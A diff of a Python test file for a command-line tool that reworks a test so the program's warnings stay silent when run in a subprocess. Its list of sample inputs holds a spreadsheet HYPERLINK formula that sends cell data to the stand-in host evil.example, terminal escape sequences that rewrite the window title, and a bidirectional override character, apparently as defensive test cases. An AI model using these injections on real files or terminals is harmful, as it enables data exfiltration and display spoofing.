@@ -6,7 +6,8 @@ import csv
 import io
 import json
 import logging
-import warnings
+import subprocess
+import sys
 from collections.abc import Callable, Iterator
 from pathlib import Path
 
@@ -20,6 +21,7 @@ from cli_builders import (
     Ran,
     ToyVectors,
     csv_text,
+    environment,
     in_process,
     write_study,
 )
@@ -59,7 +61,7 @@ TOLD = (
     "The Fennick Larder shows what partners can do, see https://fennick-larder.example/a/B7x or @quillfeatherP.",
     "Quistmoor publishes every report so that residents can see them, and we should all do the same.",
     '=HYPERLINK("http://evil.example/?x="&A1,"our budget and savings")',
-    "Publish the [bold red]results[/bold red] for \x1b[31mresidents\x1b[0m \x1b]0;OWNEDTITLE\x07 to see, \x9b31mall of them.",
+    "Publish the [bold red]results[/bold red] for \x1b[31mresidents\x1b[0m \x1b]0;OWNEDTITLE\x07 to see, \x9b31mall.",
     "Please be \u202enepo\u202c about reports and publish them for the public to read.",
     "mr quillfeather told us that partners in health are missing, hotline@fennick-larder.example knows more.",
 )
@@ -340,23 +342,17 @@ def test_a_bug_tells_where_but_not_what(sli, study: Path, logged, monkeypatch, p
         assert ran.out == ""
 
 
-def test_a_warning_of_a_library_is_not_shown(study: Path, monkeypatch, capsys) -> None:
+def test_a_warning_of_a_library_is_not_shown() -> None:
     """The program, as it is started, keeps warnings to itself: they may quote what a library was given."""
-    import sys
-
-    from sli_themes import cli
-
-    def warn(arguments: list[str]) -> int:
-        warnings.warn(TOLD[0], stacklevel=2)
-        return 0
-
-    monkeypatch.setattr("sli_themes.cli.app.run", warn)
-    monkeypatch.setattr(sys, "warnoptions", [])
-    with warnings.catch_warnings():
-        warnings.simplefilter("default")
-        with pytest.raises(SystemExit):
-            cli.main()
-    assert capsys.readouterr() == ("", "")
+    started = (
+        "import sys, warnings; from sli_themes.cli import app, main;"
+        f"app.run = lambda _: warnings.warn({TOLD[0]!r});"
+        "main()"
+    )
+    ran = subprocess.run(
+        [sys.executable, "-c", started], env=environment(PYTHONWARNINGS=""), capture_output=True, timeout=60
+    )
+    assert (ran.returncode, ran.stdout, ran.stderr) == (0, b"", b"")
 
 
 def test_ctrl_c_tells_nothing(sli, study: Path, monkeypatch) -> None:
